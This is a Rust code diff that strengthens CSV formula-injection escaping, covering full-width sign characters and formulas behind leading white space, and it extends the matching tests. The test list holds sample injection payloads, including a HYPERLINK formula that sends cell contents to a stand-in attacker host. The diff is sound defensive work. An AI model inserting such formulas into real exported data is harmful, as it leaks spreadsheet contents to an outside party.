@@ -128,12 +128,18 @@ pub enum LabelError {
     },
 }
 
-/// What makes a spreadsheet read a cell as a formula when the cell begins with it.
-const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+/// What makes a spreadsheet read a cell as a formula when the cell begins with it: the
+/// ASCII signs, and their full-width forms, which an East Asian locale's spreadsheet may
+/// take for the ASCII ones.
+const FORMULA_START: [char; 10] = [
+    '=', '+', '-', '@', '\t', '\r', '\u{FF1D}', '\u{FF0B}', '\u{FF0D}', '\u{FF20}',
+];
 
-/// Whether a cell, past any leading single quotes, begins like a formula.
+/// Whether a cell, past any leading single quotes and then any white space (an import that
+/// trims cells would bring a formula behind it to the front), begins like a formula.
 fn formula_like(cell: &str) -> bool {
-    cell.trim_start_matches('\'').starts_with(FORMULA_START)
+    let rest = cell.trim_start_matches('\'');
+    rest.starts_with(FORMULA_START) || rest.trim_start().starts_with(FORMULA_START)
 }
 
 /// A CSV cell as written: a single quote in front when it would begin like a formula
@@ -618,13 +624,17 @@ mod tests {
     }
 
     /// Texts a spreadsheet would run as formulas, and texts that only look close.
-    const FORMULAS: [&str; 10] = [
+    const FORMULAS: [&str; 14] = [
         "=HYPERLINK(\"https://evil.example/?d=\"&A1,\"click\")",
         "+1+1",
         "-2+3",
         "@SUM(A1:A2)",
         "\t=1",
         "\r=1",
+        "  =1+1",
+        "\n=HYPERLINK(\"x\")",
+        "\u{FF1D}1+1",
+        " \u{FF20}SUM(A1)",
         "'=already quoted",
         "''+twice",
         "'plain quote",
@@ -646,7 +656,10 @@ mod tests {
         let mut reader = csv::Reader::from_reader(text.as_bytes());
         for row in reader.records() {
             for cell in row.unwrap().iter() {
-                assert!(!cell.starts_with(FORMULA_START), "live formula: {cell:?}");
+                assert!(
+                    !cell.trim_start().starts_with(FORMULA_START),
+                    "live formula: {cell:?}"
+                );
             }
         }
         let back = read_records(&p).unwrap();
